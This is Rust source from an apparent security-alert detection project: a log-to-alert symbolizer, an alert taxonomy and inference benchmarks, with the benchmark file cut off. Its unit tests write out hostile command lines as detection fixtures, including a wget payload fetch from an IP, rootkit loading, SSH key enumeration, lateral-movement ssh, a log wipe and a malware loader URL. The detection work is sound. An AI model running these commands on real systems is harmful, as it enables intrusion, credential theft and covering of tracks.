            DbCommandKind::LargeObjectWrite { hex_prefix, bytes } => {
                if hex_prefix.starts_with("7F454C46") {
                    push(
                        AlertKind::ElfMagicInDbBlob,
                        MessageSpec::ElfBlob {
                            bytes: *bytes,
                            hex_prefix: hex_prefix.as_str().into(),
                        },
                    );
                }
            }
            DbCommandKind::LoExport { path } => {
                push(
                    AlertKind::LoExportExecution,
                    MessageSpec::LoExport {
                        path: path.as_str().into(),
                    },
                );
            }
            DbCommandKind::CopyFromProgram { program } => {
                push(
                    AlertKind::RemoteCodeExecAttempt,
                    MessageSpec::CopyFromProgram {
                        program: program.as_str().into(),
                    },
                );
            }
            DbCommandKind::Query => {
                let statement = self.scope.resolve(d.statement);
                if crate::pattern::glob_match("*' OR *", statement)
                    || crate::pattern::glob_match("*UNION SELECT*", statement)
                {
                    push(AlertKind::SqlInjectionProbe, MessageSpec::Text(d.statement));
                }
            }
        }
    }

    fn on_audit(&self, a: &telemetry::record::AuditRecord, out: &mut Vec<Alert>) {
        let syscall = self.scope.resolve(a.syscall);
        let args = self.scope.resolve(a.args);
        if syscall == "setuid"
            && args.contains('0')
            && a.exit_code == 0
            && self.scope.resolve(a.user) != "root"
        {
            out.push(
                Alert::new(a.ts, AlertKind::PrivilegeEscalation, Entity::User(a.user))
                    .with_host(a.host)
                    .with_message(MessageSpec::Setuid {
                        hostname: a.hostname,
                        user: a.user,
                    }),
            );
        } else if syscall == "ptrace" && args.contains("osquery") {
            out.push(
                Alert::new(a.ts, AlertKind::MonitorTampering, Entity::User(a.user))
                    .with_host(a.host)
                    .with_message(MessageSpec::MonitorPtrace {
                        hostname: a.hostname,
                    }),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::{ConnState, FlowId};
    use simnet::time::{SimDuration, SimTime};
    use simnet::topology::HostId;

    fn sym() -> Symbolizer {
        Symbolizer::with_defaults()
    }

    fn conn(
        state: ConnState,
        dir: Direction,
        src: &str,
        dst: &str,
        dport: u16,
        orig_bytes: u64,
    ) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(10),
            uid: FlowId(1),
            orig_h: src.parse().unwrap(),
            orig_p: 40_000,
            resp_h: dst.parse().unwrap(),
            resp_p: dport,
            proto: Proto::Tcp,
            service: Service::from_port(dport),
            duration: SimDuration::from_secs(1),
            orig_bytes,
            resp_bytes: 100,
            conn_state: state,
            direction: dir,
        })
    }

    #[test]
    fn probe_becomes_port_scan() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "103.102.1.1",
            "141.142.2.1",
            22,
            0,
        ));
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::PortScan);
    }

    #[test]
    fn postgres_probe_becomes_db_probe() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "111.200.1.1",
            "141.142.77.5",
            5432,
            0,
        ));
        assert_eq!(alerts[0].kind, AlertKind::RepeatedProbeDb);
    }

    #[test]
    fn outbound_probe_is_outbound_scanning() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Outbound,
            "141.142.2.1",
            "8.8.8.8",
            22,
            0,
        ));
        assert_eq!(alerts[0].kind, AlertKind::OutboundScanning);
    }

    #[test]
    fn c2_connection_detected() {
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.9.9".parse().unwrap());
        let mut s = Symbolizer::new(cfg);
        let alerts = s.symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.77.5",
            "194.145.9.9",
            443,
            100,
        ));
        assert!(alerts.iter().any(|a| a.kind == AlertKind::C2Communication));
    }

    #[test]
    fn exfil_thresholds() {
        let big = 10 * 1024 * 1024 * 1024;
        let alerts = sym().symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.2.1",
            "5.5.5.5",
            443,
            big,
        ));
        assert!(alerts.iter().any(|a| a.kind == AlertKind::DataExfiltration));
        let mid = 600 * 1024 * 1024;
        let alerts = sym().symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.2.1",
            "5.5.5.5",
            443,
            mid,
        ));
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::AnomalousDataVolume));
    }

    #[test]
    fn http_source_download_is_sensitive() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.2.5".parse().unwrap(),
            resp_h: "64.215.4.5".parse().unwrap(),
            method: "GET".into(),
            host: "64.215.4.5".into(),
            uri: "/abs.c".into(),
            status: 200,
            mime: "text/x-c".into(),
            user_agent: "Wget/1.21".into(),
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
        // Message sanitized (at render time): masked IP.
        assert!(alerts[0].message.contains("64.215.xxx.yyy"));
    }

    #[test]
    fn known_malware_uri_short_circuits() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.77.5".parse().unwrap(),
            resp_h: "194.145.4.5".parse().unwrap(),
            method: "GET".into(),
            host: "194.145.4.5".into(),
            uri: "/ldr.sh?e7945e_postgres:postgres".into(),
            status: 200,
            mime: "text/x-shellscript".into(),
            user_agent: "curl/8".into(),
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::KnownMalwareDownload);
    }

    #[test]
    fn pii_in_outbound_http_is_critical() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.2.5".parse().unwrap(),
            resp_h: "5.5.5.5".parse().unwrap(),
            method: "POST".into(),
            host: "5.5.5.5".into(),
            uri: "/upload?ssn=123456789&mail=a@b.com".into(),
            status: 200,
            mime: "text/html".into(),
            user_agent: "curl/8".into(),
        });
        let alerts = sym().symbolize(&r);
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::PiiInOutboundHttp && a.is_critical()));
    }

    #[test]
    fn ssh_alerts() {
        let rec = |success, dir, hour| {
            LogRecord::Ssh(SshRecord {
                ts: SimTime::from_datetime(2024, 10, 30, hour, 0, 0),
                uid: FlowId(3),
                orig_h: "132.1.2.3".parse().unwrap(),
                resp_h: "141.142.1.1".parse().unwrap(),
                user: "alice".into(),
                method: simnet::action::AuthMethod::Password,
                success,
                client_banner: "OpenSSH".into(),
                direction: dir,
            })
        };
        assert_eq!(
            sym().symbolize(&rec(false, Direction::Inbound, 12))[0].kind,
            AlertKind::LoginFailed
        );
        assert_eq!(
            sym().symbolize(&rec(true, Direction::Inbound, 12))[0].kind,
            AlertKind::LoginSuccess
        );
        let odd = sym().symbolize(&rec(true, Direction::Inbound, 3));
        assert!(odd.iter().any(|a| a.kind == AlertKind::LoginUnusualHour));
        let pivot = sym().symbolize(&rec(true, Direction::Internal, 12));
        assert!(pivot
            .iter()
            .any(|a| a.kind == AlertKind::InternalPivotLogin));
    }

    #[test]
    fn ghost_account_flagged() {
        let r = LogRecord::Ssh(SshRecord {
            ts: SimTime::from_datetime(2024, 10, 30, 12, 0, 0),
            uid: FlowId(3),
            orig_h: "132.1.2.3".parse().unwrap(),
            resp_h: "141.142.1.1".parse().unwrap(),
            user: "svcbackup".into(),
            method: simnet::action::AuthMethod::PublicKey,
            success: true,
            client_banner: "OpenSSH".into(),
            direction: Direction::Inbound,
        });
        let alerts = sym().symbolize(&r);
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::GhostAccountLogin));
    }

    #[test]
    fn process_rules_fire_in_order() {
        let proc = |cmd: &str| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(1),
                host: HostId(0),
                hostname: "cn01".into(),
                user: "eve".into(),
                pid: 1,
                ppid: 0,
                exe: "/bin/sh".into(),
                cmdline: cmd.into(),
            })
        };
        let k = |cmd: &str| sym().symbolize(&proc(cmd)).first().map(|a| a.kind);
        assert_eq!(
            k("wget http://64.215.4.5/abs.c"),
            Some(AlertKind::DownloadSensitive)
        );
        assert_eq!(
            k("make -C /lib/modules/5.4/build modules"),
            Some(AlertKind::CompileKernelModule)
        );
        assert_eq!(k("make all"), Some(AlertKind::CompileSource));
        assert_eq!(k("insmod rootkit.ko"), Some(AlertKind::KernelModuleLoaded));
        assert_eq!(
            k("find ~/ /root /home -maxdepth 2 -name id_rsa*"),
            Some(AlertKind::SshKeyEnumeration)
        );
        assert_eq!(
            k("cat /home/x/.ssh/known_hosts"),
            Some(AlertKind::KnownHostsEnumeration)
        );
        assert_eq!(
            k("ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@141.142.2.9"),
            Some(AlertKind::LateralMovementAttempt)
        );
        assert_eq!(k("echo 0>/var/log/wtmp"), Some(AlertKind::LogWipe));
        assert_eq!(k("ls -la"), None);
    }

    #[test]
    fn db_command_alerts() {
        use simnet::action::DbCommandKind;
        let db = |command: DbCommandKind, stmt: &str, user: &str| {
            LogRecord::Db(DbRecord {
                ts: SimTime::from_secs(1),
                uid: FlowId(4),
                orig_h: "111.200.1.1".parse().unwrap(),
                resp_h: "141.142.77.5".parse().unwrap(),
                host: Some(HostId(9)),
                user: user.into(),
                command,
                statement: stmt.into(),
            })
        };
        let mut s = sym();
        let a = s.symbolize(&db(
            DbCommandKind::ShowVersion,
            "SHOW server_version_num",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::DbVersionRecon);
        let a = s.symbolize(&db(
            DbCommandKind::LargeObjectWrite {
                hex_prefix: "7F454C46".into(),
                bytes: 50_000,
            },
            "lo_from_bytea",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::ElfMagicInDbBlob);
        let a = s.symbolize(&db(
            DbCommandKind::LoExport {
                path: "/tmp/kp".into(),
            },
            "select lo_export(1, '/tmp/kp')",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::LoExportExecution);
        let a = s.symbolize(&db(
            DbCommandKind::Auth { success: true },
            "auth",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::DefaultCredentialUse);
    }

    #[test]
    fn audit_priv_escalation() {
        let r = LogRecord::Audit(telemetry::record::AuditRecord {
            ts: SimTime::from_secs(1),
            host: HostId(0),
            hostname: "cn01".into(),
            user: "eve".into(),
            syscall: "setuid".into(),
            args: "uid=0".into(),
            exit_code: 0,
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts[0].kind, AlertKind::PrivilegeEscalation);
        assert!(alerts[0].is_critical());
    }

    #[test]
    fn custom_notice_maps_via_symbol() {
        let r = LogRecord::Notice(NoticeRecord {
            ts: SimTime::from_secs(1),
            note: NoticeKind::Custom("alert_lateral_movement".into()),
            msg: "site policy".into(),
            src: "141.142.77.5".parse().unwrap(),
            dst: None,
            sub: Sym::EMPTY,
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts[0].kind, AlertKind::LateralMovementAttempt);
    }

    #[test]
    fn render_message_honours_configured_sanitize_policy() {
        let mut cfg = SymbolizerConfig::default();
        cfg.sanitize.mask_ips = false;
        let mut s = Symbolizer::new(cfg);
        let alerts = s.symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "103.102.1.1",
            "141.142.2.1",
            22,
            0,
        ));
        // The default render path masks; the symbolizer's configured
        // policy (mask_ips = false) keeps the raw address.
        assert!(alerts[0].message.render().contains("141.142.xxx.yyy"));
        assert!(s.render_message(&alerts[0].message).contains("141.142.2.1"));
    }

    #[test]
    fn scope_keyed_memo_survives_evict_and_reintern() {
        use simnet::intern::{TenantId, TenantSymbols};
        use simnet::time::SimTime;
        use simnet::topology::HostId;

        let proc_in = |scope: &simnet::intern::SymScope, cmdline: &str| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(1),
                host: HostId(0),
                hostname: scope.sym("cn01"),
                user: scope.sym("eve"),
                pid: 1,
                ppid: 0,
                exe: scope.sym("/bin/sh"),
                cmdline: scope.sym(cmdline),
            })
        };

        let reg = TenantSymbols::new();
        let tenant = TenantId(3);
        let scope_a = reg.scope(tenant);
        // In scope A, the malicious cmdline is the first user string
        // interned — it gets the lowest free id.
        let malicious = "wget http://64.215.4.5/abs.c";
        let mal_sym = scope_a.sym(malicious);
        let mut s = Symbolizer::new_in(SymbolizerConfig::default(), scope_a.clone());
        let alerts = s.symbolize(&proc_in(&scope_a, malicious));
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);

        // Evict the tenant and recreate its slot. In the successor scope,
        // intern a *benign* cmdline first so it lands on the same 32-bit
        // id the malicious one had in scope A.
        drop(scope_a);
        assert!(reg.evict(tenant));
        let scope_b = reg.scope(tenant);
        let benign_sym = scope_b.sym("ls -la");
        assert_eq!(
            benign_sym.id(),
            mal_sym.id(),
            "test needs the id to be recycled"
        );
        s.set_scope(scope_b.clone());
        // Without scope-keyed memos this would hit the stale
        // DownloadSensitive verdict cached for the old scope's id.
        let alerts = s.symbolize(&proc_in(&scope_b, "ls -la"));
        assert!(alerts.is_empty(), "stale verdict resurrected: {alerts:?}");
        // And re-interning the same malicious cmdline in the new scope
        // still gets the correct verdict (recomputed, not resurrected).
        let alerts = s.symbolize(&proc_in(&scope_b, malicious));
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
    }

    #[test]
    fn tenant_scoped_symbolizer_isolates_custom_notices() {
        use simnet::intern::SymScope;
        // The same NoticeKind::Custom id means different symbols in
        // different scopes; scope-keyed memos must not cross-talk.
        let scope_a = SymScope::fresh();
        let scope_b = SymScope::fresh();
        let a_sym = scope_a.sym("alert_lateral_movement");
        let b_sym = scope_b.sym("note_informational_only");
        assert_eq!(a_sym.id(), b_sym.id());
        let notice = |sym| {
            LogRecord::Notice(NoticeRecord {
                ts: SimTime::from_secs(1),
                note: NoticeKind::Custom(sym),
                msg: Sym::EMPTY,
                src: "141.142.77.5".parse().unwrap(),
                dst: None,
                sub: Sym::EMPTY,
            })
        };
        let mut s_a = Symbolizer::new_in(SymbolizerConfig::default(), scope_a);
        let mut s_b = Symbolizer::new_in(SymbolizerConfig::default(), scope_b);
        assert_eq!(
            s_a.symbolize(&notice(a_sym))[0].kind,
            AlertKind::LateralMovementAttempt
        );
        assert!(
            s_b.symbolize(&notice(b_sym)).is_empty(),
            "verdict leaked across scopes"
        );
    }

    #[test]
    fn counters_track_emissions() {
        let mut s = sym();
        let r = conn(
            ConnState::S0,
            Direction::Inbound,
            "1.1.1.1",
            "141.142.2.1",
            22,
            0,
        );
        s.symbolize(&r);
        s.symbolize(&r);
        assert_eq!(s.alerts_emitted(), 2);
    }
}
