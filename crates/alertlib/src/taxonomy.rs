//! The alert taxonomy.
//!
//! Every raw log message is assigned "a symbolic name indicating the
//! attacker's intention" (§II-A), e.g. `alert_download_sensitive`. This
//! module is the catalogue of those symbols: each [`AlertKind`] carries a
//! symbol string, a [`Severity`] and an attack [`Phase`].
//!
//! The severity ladder mirrors §III-A's alert concepts: benign activity
//! (`Info`), mass scan noise (`Noise`), attack attempts (`Attempt`),
//! significant alerts worth attention (`Significant`), and critical alerts
//! whose appearance means damage has already happened (`Critical`). The
//! taxonomy deliberately contains **exactly 19 critical kinds**, matching
//! Insight 4's "19 such unique critical alerts".

use std::fmt;

use serde::{Deserialize, Serialize};

/// Alert severity, per the paper's alert concepts (§III-A, Remark 2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Severity {
    /// Legitimate operational activity (e.g. a login).
    Info,
    /// Repetitive, inconclusive mass activity (port/vulnerability scans).
    Noise,
    /// An attack attempt that will most likely fail (brute force).
    Attempt,
    /// Worth attention: indicative of an attack in progress.
    Significant,
    /// System integrity already compromised / data already exfiltrated —
    /// "too late to preempt" (Insight 4).
    Critical,
}

/// Kill-chain-like attack phase an alert is typically associated with.
/// Used to seed the factor-graph detector's emission priors.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Phase {
    Benign,
    Recon,
    InitialAccess,
    Execution,
    Persistence,
    PrivilegeEscalation,
    DefenseEvasion,
    CredentialAccess,
    Discovery,
    LateralMovement,
    Collection,
    CommandAndControl,
    Exfiltration,
    Impact,
}

macro_rules! alert_kinds {
    ($( $variant:ident => ($symbol:literal, $sev:ident, $phase:ident) ),+ $(,)?) => {
        /// A symbolic alert name. See module docs.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
        #[repr(u16)]
        pub enum AlertKind {
            $( $variant ),+
        }

        impl AlertKind {
            /// Every kind, in declaration (index) order.
            pub const ALL: &'static [AlertKind] = &[ $( AlertKind::$variant ),+ ];

            /// The `alert_*` symbol string of §II-A.
            pub fn symbol(self) -> &'static str {
                match self { $( AlertKind::$variant => $symbol ),+ }
            }

            /// Severity classification.
            pub fn severity(self) -> Severity {
                match self { $( AlertKind::$variant => Severity::$sev ),+ }
            }

            /// Typical attack phase.
            pub fn phase(self) -> Phase {
                match self { $( AlertKind::$variant => Phase::$phase ),+ }
            }

            /// Parse a symbol string back into a kind.
            pub fn from_symbol(s: &str) -> Option<AlertKind> {
                match s {
                    $( $symbol => Some(AlertKind::$variant), )+
                    _ => None,
                }
            }
        }
    };
}

alert_kinds! {
    // ---- Benign operational activity -------------------------------
    LoginSuccess => ("alert_login", Info, Benign),
    LoginFailed => ("alert_login_failed", Noise, Benign),
    JobSubmit => ("alert_job_submit", Info, Benign),
    FileTransfer => ("alert_file_transfer", Info, Benign),
    SoftwareInstall => ("alert_software_install", Info, Benign),

    // ---- Mass scanning noise ----------------------------------------
    PortScan => ("alert_port_scan", Noise, Recon),
    AddressSweep => ("alert_address_sweep", Noise, Recon),
    VulnScan => ("alert_vuln_scan", Noise, Recon),
    BruteForcePassword => ("alert_brute_force", Attempt, CredentialAccess),
    RepeatedProbeDb => ("alert_repeated_probe_db", Noise, Recon),

    // ---- Foothold / initial access ----------------------------------
    DefaultCredentialUse => ("alert_default_credential", Significant, InitialAccess),
    GhostAccountLogin => ("alert_ghost_account_login", Significant, InitialAccess),
    StolenCredentialLogin => ("alert_stolen_credential_login", Significant, InitialAccess),
    LoginUnusualHour => ("alert_login_unusual_hour", Attempt, InitialAccess),
    LoginNewGeolocation => ("alert_login_new_geo", Attempt, InitialAccess),
    SqlInjectionProbe => ("alert_sqli_probe", Attempt, InitialAccess),
    RemoteCodeExecAttempt => ("alert_rce_attempt", Attempt, InitialAccess),
    AuthBypassAttempt => ("alert_auth_bypass_attempt", Attempt, InitialAccess),
    HoneytokenAccess => ("alert_honeytoken_access", Significant, InitialAccess),

    // ---- Execution / payload staging --------------------------------
    DownloadSensitive => ("alert_download_sensitive", Significant, Execution),
    DownloadBinaryUnknown => ("alert_download_binary", Significant, Execution),
    KnownMalwareDownload => ("alert_known_malware_download", Significant, Execution),
    CompileSource => ("alert_compile_source", Attempt, Execution),
    CompileKernelModule => ("alert_compile_kernel_module", Significant, Execution),
    Base64DecodeExec => ("alert_base64_decode_exec", Significant, Execution),
    SuspiciousProcessName => ("alert_suspicious_process", Attempt, Execution),
    ElfMagicInDbBlob => ("alert_elf_in_db_blob", Significant, Execution),
    FileDropTmp => ("alert_file_drop_tmp", Significant, Execution),
    LoExportExecution => ("alert_lo_export", Significant, Execution),
    DbVersionRecon => ("alert_db_version_recon", Attempt, Discovery),
    ReverseShellPattern => ("alert_reverse_shell", Significant, Execution),

    // ---- Persistence / defense evasion ------------------------------
    CronEntryAdded => ("alert_cron_added", Significant, Persistence),
    NewServiceInstall => ("alert_new_service", Attempt, Persistence),
    KernelModuleLoaded => ("alert_kernel_module_loaded", Significant, Persistence),
    SshAuthorizedKeyAdded => ("alert_authorized_key_added", Significant, Persistence),
    LogWipe => ("alert_log_wipe", Significant, DefenseEvasion),
    HistoryCleared => ("alert_history_cleared", Significant, DefenseEvasion),
    TimestampTampering => ("alert_timestomp", Significant, DefenseEvasion),

    // ---- Credential access / discovery / lateral movement -----------
    SshKeyEnumeration => ("alert_ssh_key_enum", Significant, CredentialAccess),
    KnownHostsEnumeration => ("alert_known_hosts_enum", Significant, Discovery),
    BashHistoryAccess => ("alert_bash_history_access", Significant, Discovery),
    PasswordFileAccess => ("alert_passwd_access", Attempt, CredentialAccess),
    LateralMovementAttempt => ("alert_lateral_movement", Significant, LateralMovement),
    OutboundScanning => ("alert_outbound_scan", Significant, LateralMovement),
    InternalPivotLogin => ("alert_internal_pivot", Significant, LateralMovement),

    // ---- Command & control / collection ------------------------------
    C2Communication => ("alert_c2_communication", Significant, CommandAndControl),
    IrcConnection => ("alert_irc_connection", Attempt, CommandAndControl),
    TorConnection => ("alert_tor_connection", Attempt, CommandAndControl),
    IcmpTunnelSuspected => ("alert_icmp_tunnel", Significant, CommandAndControl),
    DnsTunnelSuspected => ("alert_dns_tunnel", Significant, CommandAndControl),
    AnomalousDataVolume => ("alert_anomalous_volume", Significant, Collection),
    ArchiveStaging => ("alert_archive_staging", Attempt, Collection),
    FirewallEgressDrop => ("alert_egress_drop", Significant, CommandAndControl),

    // ---- Critical: damage already done (exactly 19; Insight 4) ------
    PrivilegeEscalation => ("alert_priv_escalation", Critical, PrivilegeEscalation),
    PiiInOutboundHttp => ("alert_pii_outbound_http", Critical, Exfiltration),
    DataExfiltration => ("alert_data_exfiltration", Critical, Exfiltration),
    CredentialDatabaseDump => ("alert_credential_db_dump", Critical, Exfiltration),
    SshKeyTheftConfirmed => ("alert_ssh_key_theft", Critical, Exfiltration),
    RansomNoteDropped => ("alert_ransom_note", Critical, Impact),
    MassFileEncryption => ("alert_mass_encryption", Critical, Impact),
    RootkitInstalled => ("alert_rootkit_installed", Critical, Impact),
    BackdoorAccountCreated => ("alert_backdoor_account", Critical, Impact),
    AuthBypassSuccess => ("alert_auth_bypass_success", Critical, Impact),
    BootPersistenceImplant => ("alert_boot_implant", Critical, Impact),
    OutboundSpamCampaign => ("alert_spam_campaign", Critical, Impact),
    CryptominerDeployed => ("alert_cryptominer", Critical, Impact),
    DdosParticipation => ("alert_ddos_participation", Critical, Impact),
    MonitorTampering => ("alert_monitor_tampering", Critical, DefenseEvasion),
    SupplyChainTampering => ("alert_supply_chain_tamper", Critical, Impact),
    ScientificDataCorruption => ("alert_data_corruption", Critical, Impact),
    RansomDemandIssued => ("alert_ransom_demand", Critical, Impact),
    WormPropagationConfirmed => ("alert_worm_propagation", Critical, Impact),
}

impl AlertKind {
    /// Dense index in `[0, AlertKind::COUNT)`; stable across a build.
    /// Used as the observation-variable value in the factor graph.
    #[inline]
    pub fn index(self) -> usize {
        self as usize
    }

    /// Total number of kinds.
    pub const COUNT: usize = Self::ALL.len();

    /// Kind for a dense index.
    ///
    /// # Panics
    /// Panics if `i >= COUNT`.
    pub fn from_index(i: usize) -> AlertKind {
        Self::ALL[i]
    }

    /// Whether this alert means damage has already occurred.
    pub fn is_critical(self) -> bool {
        self.severity() == Severity::Critical
    }

    /// Whether this alert is mass-scan noise subject to the repeated-alert
    /// filter of §II-A.
    pub fn is_noise(self) -> bool {
        matches!(self.severity(), Severity::Noise)
    }

    /// All critical kinds.
    pub fn critical_kinds() -> impl Iterator<Item = AlertKind> {
        Self::ALL.iter().copied().filter(|k| k.is_critical())
    }
}

impl fmt::Display for AlertKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.symbol())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn exactly_19_critical_kinds() {
        // Insight 4: "The entire dataset has 19 such unique critical alerts".
        assert_eq!(AlertKind::critical_kinds().count(), 19);
    }

    #[test]
    fn symbols_are_unique() {
        let symbols: HashSet<_> = AlertKind::ALL.iter().map(|k| k.symbol()).collect();
        assert_eq!(symbols.len(), AlertKind::COUNT);
    }

    #[test]
    fn symbol_roundtrip() {
        for &k in AlertKind::ALL {
            assert_eq!(AlertKind::from_symbol(k.symbol()), Some(k));
        }
        assert_eq!(AlertKind::from_symbol("alert_nonexistent"), None);
    }

    #[test]
    fn index_roundtrip_and_density() {
        for (i, &k) in AlertKind::ALL.iter().enumerate() {
            assert_eq!(k.index(), i);
            assert_eq!(AlertKind::from_index(i), k);
        }
    }

    #[test]
    fn s1_pattern_kinds_exist_with_expected_severities() {
        // S1 (§I): download source over HTTP, compile kernel module, wipe
        // forensic trace. None of these may be Critical — the pattern must
        // remain preemptable.
        for k in [
            AlertKind::DownloadSensitive,
            AlertKind::CompileKernelModule,
            AlertKind::LogWipe,
        ] {
            assert_ne!(k.severity(), Severity::Critical, "{k} must be preemptable");
        }
        assert_eq!(
            AlertKind::DownloadSensitive.symbol(),
            "alert_download_sensitive"
        );
    }

    #[test]
    fn criticals_are_late_phase() {
        for k in AlertKind::critical_kinds() {
            assert!(
                matches!(
                    k.phase(),
                    Phase::Impact
                        | Phase::Exfiltration
                        | Phase::PrivilegeEscalation
                        | Phase::DefenseEvasion
                ),
                "{k} has unexpectedly early phase {:?}",
                k.phase()
            );
        }
    }

    #[test]
    fn severity_ordering_supports_thresholding() {
        assert!(Severity::Critical > Severity::Significant);
        assert!(Severity::Significant > Severity::Attempt);
        assert!(Severity::Attempt > Severity::Noise);
        assert!(Severity::Noise > Severity::Info);
    }

    #[test]
    fn noise_kinds_are_scan_like() {
        let noise: Vec<_> = AlertKind::ALL
            .iter()
            .filter(|k| k.is_noise())
            .map(|k| k.symbol())
            .collect();
        assert!(noise.contains(&"alert_port_scan"));
        assert!(noise.contains(&"alert_address_sweep"));
    }
}
