//! Factor-graph inference benchmarks: chain filtering/Viterbi throughput
//! versus sequence length, generic BP on equivalent chain graphs, and the
//! seed-vs-optimized engine comparison on the skip-chain session
//! workload (the repo's first measured perf milestone; `BENCH_1.json` is
//! produced by the `bench1` binary from the same workloads).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use detect::fg_session::{build_session_graph, SessionEngine, SessionGraphConfig};
use factorgraph::chain::{ChainGraphBuffer, ChainModel};
use factorgraph::sumproduct::{reference, run_in, BpOptions, BpSchedule, BpWorkspace};
use std::hint::black_box;

fn model() -> ChainModel {
    // Stage-count and alphabet comparable to the deployed detector.
    let s = detect::Stage::COUNT;
    let o = alertlib::AlertKind::COUNT;
    let mut learner = factorgraph::learn::ChainLearner::new(s, o, 0.1);
    // A few synthetic labeled sequences to make the tables non-uniform.
    for i in 0..10usize {
        let states: Vec<usize> = (0..s).collect();
        let obs: Vec<usize> = (0..s).map(|k| (k * 7 + i) % o).collect();
        learner.observe(&states, &obs);
    }
    learner.build()
}

/// A synthetic per-user session with recurring indicative kinds, so the
/// session graph carries skip factors and is loopy.
fn session_alerts(len: usize) -> Vec<alertlib::Alert> {
    use alertlib::{Alert, AlertKind, Entity};
    use simnet::time::SimTime;
    let indicative = [
        AlertKind::DownloadSensitive,
        AlertKind::CompileKernelModule,
        AlertKind::SshKeyEnumeration,
    ];
    (0..len)
        .map(|t| {
            let kind = if t % 5 == 2 {
                indicative[(t / 5) % indicative.len()]
            } else {
                AlertKind::from_index((t * 13) % alertlib::AlertKind::COUNT)
            };
            Alert::new(SimTime::from_secs(t as u64), kind, Entity::User("u".into()))
        })
        .collect()
}

fn bench_chain(c: &mut Criterion) {
    let m = model();
    let mut group = c.benchmark_group("chain_inference");
    for len in [4usize, 16, 64, 256] {
        let obs: Vec<usize> = (0..len).map(|i| (i * 13) % m.n_obs()).collect();
        group.bench_with_input(BenchmarkId::new("filter", len), &obs, |b, obs| {
            b.iter(|| black_box(m.filter(obs)))
        });
        group.bench_with_input(BenchmarkId::new("viterbi", len), &obs, |b, obs| {
            b.iter(|| black_box(m.viterbi(obs)))
        });
        group.bench_with_input(BenchmarkId::new("posteriors", len), &obs, |b, obs| {
            b.iter(|| black_box(m.posteriors(obs)))
        });
    }
    group.finish();
}

fn bench_bp_vs_chain(c: &mut Criterion) {
    let m = model();
    let obs: Vec<usize> = (0..24).map(|i| (i * 13) % m.n_obs()).collect();
    let mut group = c.benchmark_group("bp_vs_exact_chain");
    group.bench_function("exact_forward_backward", |b| {
        b.iter(|| black_box(m.posteriors(&obs)))
    });
    group.bench_function("generic_bp_seed_rebuild", |b| {
        b.iter(|| {
            let g = m.to_factor_graph(&obs);
            black_box(reference::run(&g, &BpOptions::default()))
        })
    });
    group.bench_function("generic_bp_workspace_reuse", |b| {
        let mut buf = ChainGraphBuffer::new();
        let mut ws = BpWorkspace::default();
        b.iter(|| {
            m.fill_factor_graph(&obs, &mut buf);
            black_box(run_in(buf.graph(), &BpOptions::default(), &mut ws))
        })
    });
    group.finish();
}

fn bench_session_engine(c: &mut Criterion) {
    let tagger_model = detect::toy_training_model();
    let cfg = SessionGraphConfig::default();
    let mut group = c.benchmark_group("skip_chain_session");
    for len in [32usize, 128] {
        let alerts = session_alerts(len);
        let (graph, skips) = build_session_graph(&tagger_model, &alerts, &cfg);
        assert!(
            skips > 0,
            "workload must exercise the loopy skip-chain path"
        );
        let opts = BpOptions {
            max_iters: cfg.max_iters,
            damping: cfg.damping,
            tolerance: 1e-8,
            ..Default::default()
        };
        group.bench_with_input(BenchmarkId::new("seed_flooding", len), &graph, |b, g| {
            b.iter(|| black_box(reference::run(g, &opts)))
        });
        group.bench_with_input(BenchmarkId::new("stride_workspace", len), &graph, |b, g| {
            let mut ws = BpWorkspace::new(g);
            b.iter(|| black_box(run_in(g, &opts, &mut ws)))
        });
        group.bench_with_input(
            BenchmarkId::new("stride_workspace_parallel", len),
            &graph,
            |b, g| {
                let mut ws = BpWorkspace::new(g);
                let par = BpOptions {
                    schedule: BpSchedule::ParallelFlood,
                    ..opts.clone()
                };
